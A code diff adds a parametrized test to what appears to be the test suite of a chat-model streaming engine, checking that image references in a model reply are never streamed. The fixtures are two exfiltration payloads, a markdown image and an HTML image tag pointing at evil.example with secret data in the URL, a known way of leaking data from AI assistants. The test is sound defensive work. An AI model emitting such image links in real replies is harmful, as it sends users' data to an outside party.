@@ -316,6 +316,17 @@ async def test_cancellation_passes_through(kit: Kit) -> None:
     assert outcomes(harness) == ["error"]
 
 
+@pytest.mark.parametrize("image", ["![x](https://evil.example/p.png?d=secret)", "<IMG SRC=https://evil.example/a.svg>"])
+async def test_B08_01_an_image_reference_is_never_streamed(kit: Kit, image: str) -> None:
+    reply = kit.final(f"真的！看 {image} 完")
+    assert isinstance(reply, str)
+    _, harness = shelf_harness()
+    answer = await kit.engine.run(harness.turn(ScriptedModel(script=[Say(text=reply, chunks=1)])))
+    assert "evil.example" not in repr(harness.log.events)
+    assert answer.text == harness.log.visible
+    assert answer.text.startswith("真的！看 [")
+
+
 async def test_an_empty_reply_is_never_an_empty_answer(kit: Kit) -> None:
     _, harness = shelf_harness()
     answer = await kit.engine.run(harness.turn(ScriptedModel(script=[""])))
